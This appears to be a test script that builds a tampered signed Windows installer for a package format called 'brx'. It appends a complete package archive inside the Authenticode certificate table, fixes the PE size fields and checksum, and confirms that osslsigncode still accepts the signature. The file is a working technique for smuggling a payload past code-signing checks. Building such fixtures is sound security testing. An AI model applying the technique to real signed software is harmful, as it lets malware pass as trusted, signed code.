#!/usr/bin/env bash
# Makes the attack on a signed package: the bare stub signed with a throw-away
# certificate, then its certificate table grown (the table's dwLength and the
# security data directory's size, the checksum redone) to hold a complete
# package archive. The signature's hash does not cover the table, so
# osslsigncode must still accept the file; the script fails if it does not.
# Usage: make_tampered_package.sh STUB.exe INNER_SETUP.exe OUTPUT.exe
set -euo pipefail
stub=$1
inner_setup=$2
output=$3
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj '/CN=brx test signer' \
  -keyout "$work/key.pem" -out "$work/cert.pem" 2>/dev/null
osslsigncode sign -certs "$work/cert.pem" -key "$work/key.pem" -n 'brx test package' \
  -in "$stub" -out "$work/signed.exe" >/dev/null
python3 - "$work/signed.exe" "$inner_setup" "$work/tampered.exe" <<'PY'
import io, struct, sys, zipfile
signed, setup, out = sys.argv[1:4]
data = bytearray(open(signed, 'rb').read())
pe = struct.unpack_from('<I', data, 0x3C)[0]
optional = pe + 24
magic = struct.unpack_from('<H', data, optional)[0]
security = optional + (112 if magic == 0x20B else 96) + 4 * 8
offset, size = struct.unpack_from('<II', data, security)
assert offset and offset + size == len(data), 'not a signed image'
# A complete package inside the table: offsets absolute in the whole file.
buffer = io.BytesIO()
buffer.write(data)
definition = ('<?xml version="1.0"?>\n<brx_package version="2.0.2.0">\n'
              '  <filename>swapped.exe</filename>\n'
              '  <installation><install><command>setup.exe</command></install></installation>\n'
              '</brx_package>\n')
with zipfile.ZipFile(buffer, 'a', zipfile.ZIP_DEFLATED) as z:
    z.writestr('swapped.xml', definition)
    z.write(setup, 'setup.exe')
grown = bytearray(buffer.getvalue())
grown += b'\0' * (-len(grown) % 8)
size = len(grown) - offset
struct.pack_into('<I', grown, offset, size)        # WIN_CERTIFICATE.dwLength
struct.pack_into('<I', grown, security + 4, size)  # the security directory's size
checksum_at = optional + 64
struct.pack_into('<I', grown, checksum_at, 0)
padded = grown + b'\0' * (len(grown) % 2)
total = sum(struct.unpack('<%dH' % (len(padded) // 2), padded))
while total >> 16:
    total = (total & 0xFFFF) + (total >> 16)
struct.pack_into('<I', grown, checksum_at, (total + len(grown)) & 0xFFFFFFFF)
open(out, 'wb').write(grown)
PY
osslsigncode verify -CAfile "$work/cert.pem" -in "$work/tampered.exe" > "$work/verify.txt" 2>&1 || {
  cat "$work/verify.txt" >&2
  echo "make_tampered_package: osslsigncode no longer accepts the tampered file" >&2
  exit 1
}
cp "$work/tampered.exe" "$output"
